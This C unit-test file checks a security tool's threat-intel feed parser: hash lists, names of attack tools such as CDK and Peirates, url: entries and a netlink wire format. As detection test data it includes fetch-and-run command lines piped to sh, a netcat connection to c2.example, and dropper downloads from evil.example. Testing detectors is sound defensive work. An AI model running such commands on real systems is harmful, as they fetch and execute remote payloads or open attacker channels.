// SPDX-License-Identifier: GPL-2.0
/* intel_test.c - the intel parser: every accepted form, every bad-input class, the wire format. */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <linux/genetlink.h>

#include "intel.h"
#include "netlink.h"
#include "testlib.h"

#define H1 "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
#define H1_UPPER "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"
#define H2 "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"

/* --- accepted input ------------------------------------------------------------------------- */

struct good_case {
	const char *name;
	const char *text;
	size_t hashes, names;
	/* the first entry */
	const char *hash;		/* hex, or NULL for a name rule */
	const char *rule;
	int category;
	const char *label;		/* NULL: none */
};

static const struct good_case good[] = {
	{ "plain_hash_list_loads_as_malicious_without_labels", H1 "\n" H2 "\n", 2, 0,
	  H1, NULL, WHORL_INTEL_MALICIOUS, NULL },
	{ "upper_case_hex_is_accepted", H1_UPPER "\n", 1, 0,
	  H1, NULL, WHORL_INTEL_MALICIOUS, NULL },
	{ "comments_and_blank_lines_are_skipped",
	  "# MalwareBazaar export\n\n   \n\t# indented comment\n" H1 "\n", 1, 0,
	  H1, NULL, WHORL_INTEL_MALICIOUS, NULL },
	{ "category_and_multi_word_label", H1 " malicious xz-backdoor CVE-2024-3094\n", 1, 0,
	  H1, NULL, WHORL_INTEL_MALICIOUS, "xz-backdoor CVE-2024-3094" },
	{ "container_escape_category", H1 " container-escape escape-tool\n", 1, 0,
	  H1, NULL, WHORL_INTEL_CONTAINER_ESCAPE, "escape-tool" },
	{ "k8s_attack_category_without_label", H1 " k8s-attack\n", 1, 0,
	  H1, NULL, WHORL_INTEL_K8S_ATTACK, NULL },
	{ "name_rule_with_category_and_label", "name:cdk container-escape CDK\n", 0, 1,
	  NULL, "cdk", WHORL_INTEL_CONTAINER_ESCAPE, "CDK" },
	{ "name_rule_recon", "name:amicontained recon amicontained\n", 0, 1,
	  NULL, "amicontained", WHORL_INTEL_RECON, "amicontained" },
	{ "tabs_separate_fields", H1 "\tmalicious\tminer\n", 1, 0,
	  H1, NULL, WHORL_INTEL_MALICIOUS, "miner" },
	{ "crlf_line_endings", H1 " recon nmap\r\n" H2 "\r\n", 2, 0,
	  H1, NULL, WHORL_INTEL_RECON, "nmap" },
	{ "byte_order_mark_is_skipped", "\xef\xbb\xbf" H1 "\n", 1, 0,
	  H1, NULL, WHORL_INTEL_MALICIOUS, NULL },
	{ "last_line_without_newline", H1, 1, 0, H1, NULL, WHORL_INTEL_MALICIOUS, NULL },
	{ "utf8_label", H1 " malicious Schadsoftware-\xc3\xa4\n", 1, 0,
	  H1, NULL, WHORL_INTEL_MALICIOUS, "Schadsoftware-\xc3\xa4" },
	{ "label_of_63_bytes_is_the_longest",
	  H1 " malicious 123456789012345678901234567890123456789012345678901234567890123\n", 1, 0,
	  H1, NULL, WHORL_INTEL_MALICIOUS,
	  "123456789012345678901234567890123456789012345678901234567890123" },
	{ "empty_file_loads_nothing", "", 0, 0, NULL, NULL, 0, NULL },
	{ "mixed_hashes_and_rules", H1 "\nname:peirates k8s-attack Peirates\n" H2 " recon\n",
	  2, 1, H1, NULL, WHORL_INTEL_MALICIOUS, NULL },
};

static void good_input_parses(void **state)
{
	const struct good_case *c = *state;
	struct whorl_intel set = { 0 };
	char err[WHORL_INTEL_ERR_MAX] = "";
	uint8_t want[WHORL_SHA256_LEN];

	/* Act */
	int ret = whorl_intel_parse(&set, "feed.txt", c->text, strlen(c->text), err);

	/* Assert */
	if (ret)
		fail_msg("refused: %s", err);
	assert_int_equal(set.hashes, c->hashes);
	assert_int_equal(set.names, c->names);
	assert_int_equal(set.n, c->hashes + c->names);
	if (set.n) {
		if (c->hash) {
			assert_null(set.v[0].name);
			t_unhex(c->hash, want, sizeof(want));
			assert_memory_equal(set.v[0].sha256, want, sizeof(want));
		} else {
			assert_non_null(set.v[0].name);
			assert_string_equal(set.v[0].name, c->rule);
		}
		assert_int_equal(set.v[0].category, c->category);
		if (c->label) {
			assert_non_null(whorl_intel_label(&set, &set.v[0]));
			assert_string_equal(whorl_intel_label(&set, &set.v[0]), c->label);
		} else {
			assert_null(whorl_intel_label(&set, &set.v[0]));
		}
	}
	whorl_intel_free(&set);
}

/* --- refused input: the message names file, line and reason ---------------------------------- */

struct bad_case {
	const char *name;
	const char *text;
	size_t len;			/* 0: strlen(text) */
	const char *message;		/* the whole "file:line: reason" */
};

#define LABEL64 "1234567890123456789012345678901234567890123456789012345678901234"
#define NAME256 LABEL64 LABEL64 LABEL64 LABEL64

static const struct bad_case bad[] = {
	{ "short_hash_is_refused", H1 "\n" "e3b0c44298fc\n", 0,
	  "feed.txt:2: not a SHA-256: 12 characters where 64 hex digits were expected" },
	{ "long_hash_is_refused", H1 "0\n", 0,
	  "feed.txt:1: not a SHA-256: 65 characters where 64 hex digits were expected" },
	{ "md5_is_refused", "44d88612fea8a8f36de82e1278abb02f\n", 0,
	  "feed.txt:1: not a SHA-256: 32 characters where 64 hex digits were expected" },
	{ "non_hex_digit_is_refused",
	  "# header\n" "g3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n", 0,
	  "feed.txt:2: not a SHA-256: 'g' at column 1 is not a hex digit" },
	{ "non_hex_second_digit_of_a_pair_is_refused",
	  "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b85x\n", 0,
	  "feed.txt:1: not a SHA-256: 'x' at column 64 is not a hex digit" },
	{ "non_hex_after_indent_names_its_column",
	  "  e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b78-2b855\n", 0,
	  "feed.txt:1: not a SHA-256: '-' at column 61 is not a hex digit" },
	{ "sha256sum_output_is_refused", H1 "  /usr/bin/xmrig\n", 0,
	  "feed.txt:1: unknown category '/usr/bin/xmrig' (malicious, container-escape, "
	  "k8s-attack, recon)" },
	{ "unknown_category_is_refused", H1 " evil miner\n", 0,
	  "feed.txt:1: unknown category 'evil' (malicious, container-escape, k8s-attack, recon)" },
	{ "category_is_case_sensitive", H1 " Malicious\n", 0,
	  "feed.txt:1: unknown category 'Malicious' (malicious, container-escape, k8s-attack, "
	  "recon)" },
	{ "name_rule_without_category_is_refused", "name:cdk\n", 0,
	  "feed.txt:1: a name: rule needs a category (malicious, container-escape, k8s-attack, "
	  "recon)" },
	{ "empty_name_is_refused", "name: recon\n", 0,
	  "feed.txt:1: empty name in a name: rule" },
	{ "name_with_slash_is_refused", "name:/usr/bin/cdk container-escape\n", 0,
	  "feed.txt:1: a name: rule is a basename, without '/'" },
	{ "name_of_256_bytes_is_refused", "name:" NAME256 " recon\n", 0,
	  "feed.txt:1: name longer than 255 bytes" },
	{ "label_of_64_bytes_is_refused", H1 " malicious " LABEL64 "\n", 0,
	  "feed.txt:1: label longer than 63 bytes" },
	{ "control_character_in_label_is_refused", H1 " malicious bad\x1b[31mlabel\n", 0,
	  "feed.txt:1: control character in the label" },
	{ "invalid_utf8_is_refused", H1 " malicious caf\xe9\n", 0,
	  "feed.txt:1: not UTF-8 text" },
	{ "overlong_utf8_is_refused", H1 " malicious \xc0\xaf\n", 0,
	  "feed.txt:1: not UTF-8 text" },
	{ "nul_byte_is_refused", H1 "\n" H2 "\0 malicious\n", 2 * 65 + 12,
	  "feed.txt:2: NUL byte in the line" },
	{ "nul_byte_in_a_label_is_refused", H1 " malicious ab\0cd\n", 65 + 16,
	  "feed.txt:1: NUL byte in the line" },
	{ "invalid_utf8_at_the_end_of_a_long_label_is_refused",
	  H1 " malicious abcdefghijklmnopqrstuvwxyz\xff\n", 0,
	  "feed.txt:1: not UTF-8 text" },
	{ "empty_url_is_refused", "url: dropper\n", 0, "feed.txt:1: empty URL in a url: line" },
	{ "url_without_host_is_refused", "url:http:///x.sh\n", 0,
	  "feed.txt:1: not a URL: scheme://host[:port][/path] or host[/path] expected" },
	{ "url_with_bad_scheme_is_refused", "url:1http://evil.example/\n", 0,
	  "feed.txt:1: not a URL: scheme://host[:port][/path] or host[/path] expected" },
	{ "url_with_bad_port_is_refused", "url:http://evil.example:80x/\n", 0,
	  "feed.txt:1: not a URL: scheme://host[:port][/path] or host[/path] expected" },
	{ "url_with_bad_host_is_refused", "url:http://ev!l.example/\n", 0,
	  "feed.txt:1: not a URL: scheme://host[:port][/path] or host[/path] expected" },
	{ "url_label_of_64_bytes_is_refused", "url:evil.example " LABEL64 "\n", 0,
	  "feed.txt:1: label longer than 63 bytes" },
	{ "error_names_the_first_bad_line_of_many",
	  H1 "\n" H2 "\n# fine so far\n\nnot-a-hash\n" H1 " nonsense\n", 0,
	  "feed.txt:5: not a SHA-256: 10 characters where 64 hex digits were expected" },
};

static void bad_input_is_refused_with_file_line_reason(void **state)
{
	const struct bad_case *c = *state;
	struct whorl_intel set = { 0 };
	char err[WHORL_INTEL_ERR_MAX] = "";
	size_t len = c->len ? c->len : strlen(c->text);

	assert_int_equal(whorl_intel_parse(&set, "feed.txt", c->text, len, err), -1);
	assert_string_equal(err, c->message);
	whorl_intel_free(&set);
}

/* --- files ------------------------------------------------------------------------------------- */

static void example_file_loads(void **state)
{
	struct whorl_intel set = { 0 };
	char err[WHORL_INTEL_ERR_MAX] = "";

	(void)state;
	if (whorl_intel_load_file(&set, t_fixture("intel/example.intel"), err))
		fail_msg("%s", err);
	assert_int_equal(set.hashes, 4);
	assert_int_equal(set.names, 3);
	whorl_intel_free(&set);
}

static void bad_file_names_its_path_and_line(void **state)
{
	struct whorl_intel set = { 0 };
	char err[WHORL_INTEL_ERR_MAX] = "", want[WHORL_INTEL_ERR_MAX];
	const char *path = t_fixture("intel/bad-line-8.intel");

	(void)state;
	snprintf(want, sizeof(want), "%s:8: unknown category 'malware' (malicious, "
		 "container-escape, k8s-attack, recon)", path);
	assert_int_equal(whorl_intel_load_file(&set, path, err), -1);
	assert_string_equal(err, want);
	whorl_intel_free(&set);
}

static void missing_file_is_an_error(void **state)
{
	struct whorl_intel set = { 0 };
	char err[WHORL_INTEL_ERR_MAX] = "";

	(void)state;
	assert_int_equal(whorl_intel_load_file(&set, "/nonexistent/whorl.intel", err), -1);
	assert_string_equal(err, "/nonexistent/whorl.intel: No such file or directory");
	whorl_intel_free(&set);
}

/* --- the wire format: INTEL_ADD batches as the kernel's strict policy wants them -------------- */

/* What the kernel would rebuild from the messages, checked as it goes. */
struct seen {
	size_t hashes, names, labels, bad;
	int hashes_begun;		/* a label after hashes could not be named by them */
	char label[WHORL_INTEL_MAX_LABELS + 1][WHORL_LABEL_MAX];
	const struct whorl_intel *set;
	size_t next;			/* the entry of set the next one must equal */
};

/* Is the next entry of the set a hash @sha with @category and label number @label? */
static void saw_entry(struct seen *s, const uint8_t *sha, const char *name, int category,
		      const char *label)
{
	const struct whorl_intel_entry *e;
	const char *want;

	if (s->next >= s->set->n) {
		s->bad++;
		return;
	}
	e = &s->set->v[s->next++];
	want = whorl_intel_label(s->set, e);
	s->bad += e->category != category;
	s->bad += !!want != !!label || (want && strcmp(want, label));
	if (name)
		s->bad += !e->name || strcmp(e->name, name);
	else
		s->bad += e->name || memcmp(e->sha256, sha, WHORL_SHA256_LEN);
}

/* NLA_NUL_STRING: NUL-terminated within at most @max bytes, no NUL before the end. */
static int bad_string(const struct nlattr *a, size_t max)
{
	const char *str = mnl_attr_get_payload(a);
	size_t len = mnl_attr_get_payload_len(a);

	return !len || len > max || str[len - 1] != '\0' || strlen(str) != len - 1;
}

static int entry_attr_cb(const struct nlattr *a, void *data)
{
	const struct nlattr **tb = data;
	int type = mnl_attr_get_type(a);

	if (type <= WHORL_INTEL_A_UNSPEC || type > WHORL_INTEL_A_MAX || tb[type])
		tb[WHORL_INTEL_A_UNSPEC] = a;	/* unknown or repeated: bad */
	else
		tb[type] = a;
	return MNL_CB_OK;
}

static void saw_nest(struct seen *s, const struct nlattr *nest)
{
	const struct nlattr *tb[WHORL_INTEL_A_MAX + 1] = { 0 };
	const char *label = NULL;

	mnl_attr_parse_nested(nest, entry_attr_cb, tb);
	if (tb[WHORL_INTEL_A_UNSPEC] || !tb[WHORL_INTEL_A_NAME] || tb[WHORL_INTEL_A_SHA256] ||
	    !tb[WHORL_INTEL_A_CATEGORY] || bad_string(tb[WHORL_INTEL_A_NAME], WHORL_NAME_MAX) ||
	    (tb[WHORL_INTEL_A_LABEL] && bad_string(tb[WHORL_INTEL_A_LABEL], WHORL_LABEL_MAX))) {
		s->bad++;	/* only name rules travel as nests */
		return;
	}
	if (tb[WHORL_INTEL_A_LABEL])
		label = mnl_attr_get_str(tb[WHORL_INTEL_A_LABEL]);
	s->names++;
	saw_entry(s, NULL, mnl_attr_get_str(tb[WHORL_INTEL_A_NAME]),
		  mnl_attr_get_u8(tb[WHORL_INTEL_A_CATEGORY]), label);
}

static void saw_hashes(struct seen *s, const struct nlattr *a)
{
	const struct whorl_intel_hash *h = mnl_attr_get_payload(a);
	size_t i, len = mnl_attr_get_payload_len(a);

	s->hashes_begun = 1;
	if (!len || len % sizeof(*h)) {
		s->bad++;
		return;
	}
	for (i = 0; i < len / sizeof(*h); i++, h++) {
		if (h->reserved || h->label > s->labels || h->category < WHORL_INTEL_MALICIOUS ||
		    h->category > WHORL_INTEL_CATEGORY_MAX) {
			s->bad++;
			continue;
		}
		s->hashes++;
		saw_entry(s, h->sha256, NULL, h->category, h->label ? s->label[h->label] : NULL);
	}
}

static int top_attr_cb(const struct nlattr *a, void *data)
{
	struct seen *s = data;

	switch (mnl_attr_get_type(a)) {
	case WHORL_A_INTEL_LABEL:
		if (bad_string(a, WHORL_LABEL_MAX) || s->hashes_begun ||
		    s->labels == WHORL_INTEL_MAX_LABELS) {
			s->bad++;
			break;
		}
		strcpy(s->label[++s->labels], mnl_attr_get_str(a));
		break;
	case WHORL_A_INTEL_HASHES:
		saw_hashes(s, a);
		break;
	case WHORL_A_INTEL_ENTRY:
		/* Strict validation refuses a nest without NLA_F_NESTED. */
		if (!(a->nla_type & NLA_F_NESTED))
			s->bad++;
		else
			saw_nest(s, a);
		break;
	default:
		s->bad++;
	}
	return MNL_CB_OK;
}

/* Put @set in INTEL_ADD messages as the tool does and read them back into @s. */
static size_t send_all(const struct whorl_intel *set, struct seen *s)
{
	static char buf[WHORL_NL_BATCH_MAX + 8192];
	struct whorl_nl nl = { .family = T_FAMILY };
	struct whorl_intel_cursor c = { 0 };
	struct nlmsghdr *nlh;
	size_t msgs = 0;

	s->set = set;
	while (whorl_nl_intel_more(set, &c)) {
		nlh = whorl_nl_msg(&nl, buf, WHORL_CMD_INTEL_ADD);
		whorl_nl_put_intel_batch(nlh, set, &c);
		assert_true(nlh->nlmsg_len > MNL_NLMSG_HDRLEN + sizeof(struct genlmsghdr));
		assert_true(nlh->nlmsg_len <= WHORL_NL_BATCH_MAX);
		assert_int_equal(nlh->nlmsg_type, T_FAMILY);
		assert_true(nlh->nlmsg_flags & NLM_F_ACK);
		mnl_attr_parse(nlh, sizeof(struct genlmsghdr), top_attr_cb, s);
		msgs++;
	}
	return msgs;
}

static void intel_batches_stay_under_32k_and_carry_every_entry(void **state)
{
	struct whorl_intel set = { 0 };
	char err[WHORL_INTEL_ERR_MAX] = "", line[300];
	struct seen *s = calloc(1, sizeof(*s));
	size_t i, msgs, len = 0;
	char *text;

	(void)state;
	assert_non_null(s);
	/* 5000 hashes under 50 labels, 300 long name rules among them, then unlabelled hashes */
	text = calloc(6000, 300);
	assert_non_null(text);
	for (i = 0; i < 5000; i++) {
		len += sprintf(text + len, "%064zx %s label-%zu\n", i,
			       i % 3 ? "malicious" : "recon", i % 50);
		if (i % 16 == 0 && i / 16 < 300)
			len += sprintf(text + len, "name:tool-%0200zu container-escape %s\n", i / 16,
				       i % 2 ? "label-7" : "");
	}
	for (i = 0; i < 500; i++) {
		snprintf(line, sizeof(line), "%064zx k8s-attack\n", 100000 + i);
		len += sprintf(text + len, "%s", line);
	}
	if (whorl_intel_parse(&set, "big", text, len, err))
		fail_msg("%s", err);
	free(text);
	assert_int_equal(set.nlabels, 50);

	msgs = send_all(&set, s);

	assert_int_equal(s->bad, 0);
	assert_int_equal(s->next, set.n);
	assert_int_equal(s->hashes, 5500);
	assert_int_equal(s->names, 300);
	assert_int_equal(s->labels, 50);
	assert_true(msgs > 1);
	whorl_intel_free(&set);
	free(s);
}

static void every_distinct_label_travels_once_and_the_limit_holds(void **state)
{
	size_t i, len = 0, cap = (WHORL_INTEL_MAX_LABELS + 2) * 100;
	struct whorl_intel set = { 0 };
	char err[WHORL_INTEL_ERR_MAX] = "";
	struct seen *s = calloc(1, sizeof(*s));
	char *text = malloc(cap);

	(void)state;
	assert_non_null(s);
	assert_non_null(text);
	/* every label the kernel takes, each on its own hash */
	for (i = 0; i < WHORL_INTEL_MAX_LABELS; i++)
		len += sprintf(text + len, "%064zx malicious family-%zu\n", i, i);
	if (whorl_intel_parse(&set, "many", text, len, err))
		fail_msg("%s", err);
	assert_int_equal(set.nlabels, WHORL_INTEL_MAX_LABELS);
	assert_string_equal(whorl_intel_label(&set, &set.v[65534]), "family-65534");
	send_all(&set, s);
	assert_int_equal(s->bad, 0);
	assert_int_equal(s->labels, WHORL_INTEL_MAX_LABELS);
	assert_int_equal(s->hashes, WHORL_INTEL_MAX_LABELS);
	whorl_intel_free(&set);

	/* one more distinct label is refused on its line; a known one is not */
	len += sprintf(text + len, "%064x malicious family-7\n", 1);
	len += sprintf(text + len, "%064x malicious one-too-many\n", 2);
	assert_int_equal(whorl_intel_parse(&set, "many", text, len, err), -1);
	assert_string_equal(err, "many:65537: more than 65535 distinct labels");
	whorl_intel_free(&set);
	free(text);
	free(s);
}

/* --- url: lines, the relay's -------------------------------------------------------------- */

static void url_keys_are_normalized(void **state)
{
	static const struct { const char *url, *key; } c[] = {
		{ "http://Evil.Example/x.sh", "evil.example/x.sh" },
		{ "HTTPS://evil.example.:443/", "evil.example/" },
		{ "http://evil.example:8080", "evil.example:8080/" },
		{ "https://user:pw@evil.example/a?b=1#frag", "evil.example/a?b=1" },
		{ "evil.example", "evil.example/" },
		{ "evil.example?q", "evil.example/?q" },
		{ "ftp://[2001:DB8::9]:21/p", "[2001:db8::9]/p" },
		{ "stratum+tcp://pool.example:3333", "pool.example:3333/" },
		{ "http://evil.example/A/B", "evil.example/A/B" },
	};
	static const char *const refused[] = { "", "http://", "://evil.example", "http://a b/",
					       "http://[::1/", "evil.example:x/", "/tmp/x.sh" };
	char key[WHORL_URL_MAX];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
		assert_int_equal(whorl_url_key(c[i].url, strlen(c[i].url), key),
				 (long)strlen(c[i].key));
		assert_string_equal(key, c[i].key);
	}
	for (i = 0; i < sizeof(refused) / sizeof(refused[0]); i++)
		assert_int_equal(whorl_url_key(refused[i], strlen(refused[i]), key), -1);
}

static const char url_feed[] =
	"# URLs\n"
	"url:http://evil.example/x.sh dropper\n"
	"url:c2.example\n"
	"url:https://cdn.example/payloads/ staged payloads\n"
	"url:http://evil.example/x.sh dropper v2\n"
	H1 " malicious miner\n";

static void url_lines_load_beside_hashes(void **state)
{
	struct whorl_intel set = { 0 };
	char err[WHORL_INTEL_ERR_MAX] = "";

	(void)state;
	assert_int_equal(whorl_intel_parse(&set, "feed.txt", url_feed, strlen(url_feed), err), 0);
	assert_int_equal(set.hashes, 1);
	assert_int_equal(set.names, 0);
	assert_int_equal(set.n, 1);		/* url: lines never travel to the module */
	assert_int_equal(set.urls.n, 3);	/* the repeated line replaced the first */
	assert_int_equal(set.nlabels, 1);	/* nor do their labels */
	whorl_intel_free(&set);
}

static void urls_on_command_lines_match_as_documented(void **state)
{
	static const struct { const char *cmdline, *found, *label; } c[] = {
		{ "curl -fsSL http://evil.example/x.sh", "http://evil.example/x.sh", "dropper v2" },
		{ "sh -c curl -s 'HTTP://EVIL.example:80/x.sh?v=2' | sh", "HTTP://EVIL.example:80/x.sh?v=2",
		  "dropper v2" },
		{ "wget -qO- https://evil.example/x.sh/", "https://evil.example/x.sh/", "dropper v2" },
		{ "nc c2.example 4444", "c2.example", NULL },
		{ "curl --url=https://c2.example/beacon", "https://c2.example/beacon", NULL },
		{ "curl http://good.example/?next=https://cdn.example/payloads/a.bin",
		  "https://cdn.example/payloads/a.bin", "staged payloads" },
		{ "sh -c \"$(curl http://c2.example)\"", "http://c2.example", NULL },
	};
	static const char *const silent[] = {
		"curl http://evil.example/x.shell", "curl http://evil.example/", "ls /tmp/c2.example",
		"curl https://cdn.example/payloads", "curl https://cdn.example/other/",
		"curl http://sub.c2.example/", "echo evil.example/x.sh.txt", "",
	};
	struct whorl_intel set = { 0 };
	char err[WHORL_INTEL_ERR_MAX] = "", found[WHORL_URL_MAX];
	const struct whorl_url_entry *e;
	size_t i;

	(void)state;
	assert_int_equal(whorl_intel_parse(&set, "feed.txt", url_feed, strlen(url_feed), err), 0);
	for (i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
		e = whorl_urls_find(&set.urls, c[i].cmdline, found);
		if (!e)
			fail_msg("no match in '%s'", c[i].cmdline);
		assert_string_equal(found, c[i].found);
		if (c[i].label)
			assert_string_equal(e->label, c[i].label);
		else
			assert_null(e->label);
	}
	for (i = 0; i < sizeof(silent) / sizeof(silent[0]); i++)
		if (whorl_urls_find(&set.urls, silent[i], found))
			fail_msg("'%s' matched as '%s'", silent[i], found);
	whorl_intel_free(&set);
}

/* An attacker's command line cannot make the lookup slow: the URLs tried are bounded. */
static void a_command_line_full_of_urls_is_bounded(void **state)
{
	struct whorl_intel set = { 0 };
	char err[WHORL_INTEL_ERR_MAX] = "", found[WHORL_URL_MAX], line[4096] = "";
	size_t i;

	(void)state;
	assert_int_equal(whorl_intel_parse(&set, "feed.txt", url_feed, strlen(url_feed), err), 0);
	for (i = 0; strlen(line) + 40 < sizeof(line); i++)
		strcat(line, "http://a.example/x ");
	strcat(line, "http://evil.example/x.sh");
	/* past WHORL_URLS_PER_CMDLINE URLs the rest is not looked at */
	assert_true(i > WHORL_URLS_PER_CMDLINE);
	assert_null(whorl_urls_find(&set.urls, line, found));
	assert_non_null(whorl_urls_find(&set.urls, "curl http://evil.example/x.sh", found));
	whorl_intel_free(&set);
}

int main(void)
{
	struct CMUnitTest tests[sizeof(good) / sizeof(good[0]) + sizeof(bad) / sizeof(bad[0]) + 9];
	size_t i, n = 0;

	for (i = 0; i < sizeof(good) / sizeof(good[0]); i++)
		tests[n++] = (struct CMUnitTest){ good[i].name, good_input_parses, NULL, NULL,
						  (void *)&good[i] };
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		tests[n++] = (struct CMUnitTest){ bad[i].name,
						  bad_input_is_refused_with_file_line_reason,
						  NULL, NULL, (void *)&bad[i] };
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(example_file_loads);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(bad_file_names_its_path_and_line);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(missing_file_is_an_error);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(
		intel_batches_stay_under_32k_and_carry_every_entry);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(
		every_distinct_label_travels_once_and_the_limit_holds);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(url_keys_are_normalized);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(url_lines_load_beside_hashes);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(urls_on_command_lines_match_as_documented);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(a_command_line_full_of_urls_is_bounded);
	return _cmocka_run_group_tests("intel", tests, n, NULL, NULL);
}
